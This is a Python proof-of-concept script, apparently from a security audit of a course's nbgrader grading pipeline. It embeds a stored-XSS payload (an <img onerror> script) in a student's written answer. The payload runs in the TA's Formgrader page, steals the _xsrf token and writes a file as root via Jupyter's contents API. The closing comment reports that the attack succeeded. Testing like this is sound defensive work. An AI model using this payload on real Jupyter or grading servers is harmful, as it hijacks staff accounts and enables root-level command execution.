"""a06 (root, ps1_memory): a written answer (markdown solution cell, the student's to write) holding HTML with
JavaScript. The grader keeps it in autograded/ as it is; `make grade` then tells the TA "written answers: `make lab`,
then nbgrader's Formgrader" (and `make lab` runs Jupyter as root with --allow-root). The course's feedback pages
sanitise markdown (grader/feedback.py), but the formgrader's own template (`formgrade/index.html.j2`) renders a
solution markdown cell with `cell.source | markdown2html` and no sanitiser (HTMLExporter.sanitize_html=True does
not reach that block). The JavaScript runs in the TA's Jupyter origin, with the TA's cookies: here it writes a file
through /api/contents (it could as well open /api/terminals and run commands as the TA: root, no sandbox, every
secret in the TA's environment, the judges, source/).
Steps: grade a class of one hostile student (grader.grade as root), start JupyterLab on the course as root the way
`make lab` does (tests/browser.py's helpers), open the formgrader page of that submission in chromium (the TA
clicking the student's notebook in Formgrader > Manage submissions), check the file on disk.
RESULT: see the bottom of this file and a06.out.txt."""
import os, sys, time
HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "round5"))
from monitor import ac, grade_watched

MARK = "PWNED-by-student-handin.txt"
JS = ("(async()=>{const c=document.cookie.split('; ').find(s=>s.startsWith('_xsrf='));"
      "const t=c?decodeURIComponent(c.slice(6)):'';"
      f"await fetch('/api/contents/{MARK}',{{method:'PUT',credentials:'same-origin',"
      "headers:{'Content-Type':'application/json','X-XSRFToken':t},"
      "body:JSON.stringify({type:'file',format:'text',content:'written from the TA formgrader by a hand-in, as '+document.domain})});"
      "document.title='xss-ran';})()")
ANSWER = ("My answer: DDP fits because ...\n\n"
          f'<img src="data:," style="display:none" onerror="{JS}">\n')

if __name__ == "__main__":
    nb = ac.notebook({"written_ddp_fit": ANSWER})
    dest = ac.make_course("r9-a06", {"xss": nb})
    if "--skip-grade" not in sys.argv:
        grade_watched(dest)
    sys.path.insert(0, ac.ROOT)
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{dest}/gradebook.db") as gb:
        nbsub = gb.find_submission_notebook("ps1_memory", "ps1_memory", "xss")
        sub_id = nbsub.id
    raw = open(f"{dest}/autograded/xss/ps1_memory/ps1_memory.ipynb").read()
    print("payload kept in autograded notebook:", "onerror" in raw)
    from tests import browser
    target = os.path.join(dest, MARK)
    if os.path.exists(target):
        os.remove(target)
    work = "/tmp/r9xss"
    with browser.jupyter_lab(dest, work) as (url, token):
        with browser.chromium(work) as page:
            page.goto(f"{url}/lab?token={token}")
            page.wait_for_timeout(3000)
            page.goto(f"{url}/formgrader/submissions/{sub_id}/")
            page.wait_for_timeout(5000)
            print("page title:", page.title())
            html = page.content()
            print("img with onerror in the formgrader page:", "onerror" in html)
    print(target, "exists:", os.path.exists(target))
    if os.path.exists(target):
        st = os.stat(target)
        print("owner uid", st.st_uid, "content:", open(target).read())
# RESULT (root, 13:08 UTC, a06.out.txt): BROKEN, the most serious of this round: a hand-in reaches the TA's account
# (root) outside any sandbox. The payload survived grading in autograded/xss/ps1_memory/ps1_memory.ipynb; the
# formgrader page of that submission rendered the <img onerror> unsanitised ("img with onerror in the formgrader
# page: True"), the script ran (page title "xss-ran") and, with the TA's cookie and _xsrf, PUT
# /tmp/attack-course-r9-a06/PWNED-by-student-handin.txt through /api/contents: on disk, owner uid 0.
